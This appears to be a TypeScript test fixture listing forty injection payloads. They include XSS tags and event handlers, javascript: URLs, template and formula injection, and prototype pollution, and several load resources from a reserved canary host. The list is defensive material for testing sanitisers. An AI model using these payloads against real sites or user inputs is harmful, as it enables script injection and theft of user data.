/** Nothing of ours may ever call this host. */
export const CANARY_HOST = 'canary.invalid'

const C = `//${CANARY_HOST}`

/** Each of the forty texts acts when somebody takes it for HTML, an address, a formula, a template or a header. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script src=${C}/1></script>`,
  '<script>alert(2)</script>',
  '"><script>alert(3)</script>',
  `<img src=${C}/4>`,
  '<img src=x onerror=alert(5)>',
  `'"><img src=${C}/6 onerror=alert(6)>`,
  '<svg onload=alert(7)>',
  `<svg><image href=${C}/8 /></svg>`,
  '<svg><script>alert(9)</script></svg>',
  `<iframe src=${C}/10></iframe>`,
  '<iframe srcdoc="<script>alert(11)</script>">',
  `<link rel=stylesheet href=${C}/12>`,
  `<link rel=preload as=image href=${C}/13>`,
  `<style>@import '${C}/14'</style>`,
  `<style>*{background:url(${C}/15)}</style>`,
  `<div style="background:url(${C}/16)">`,
  `<video src=${C}/17 autoplay>`,
  `<audio src=${C}/18 autoplay>`,
  `<object data=${C}/19>`,
  `<embed src=${C}/20>`,
  `<base href=${C}/21/>`,
  `<meta http-equiv=refresh content="0;url=http:${C}/22">`,
  `<form action=${C}/23><button autofocus>x`,
  '<input autofocus onfocus=alert(24)>',
  '<details open ontoggle=alert(25)>',
  '<body onload=alert(26)>',
  '<marquee onstart=alert(27)>',
  '<a href="javascript:alert(28)">here</a>',
  'javascript:alert(29)',
  'data:text/html,<script>alert(30)</script>',
  '</title><script>alert(31)</script>',
  '</textarea><script>alert(32)</script>',
  '--></script><script>alert(33)</script>',
  '{{constructor.constructor("alert(34)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it is meant to look like
  '${alert(35)}`;alert(35)//',
  `');alert(36);('`,
  `=HYPERLINK("http:${C}/37","here")`,
  '__proto__[x]=alert(38)',
  '\u200f<script>alert(39)</script>\u200e',
  `<math><mi xlink:href="javascript:alert(40)">x</mi></math>`,
]
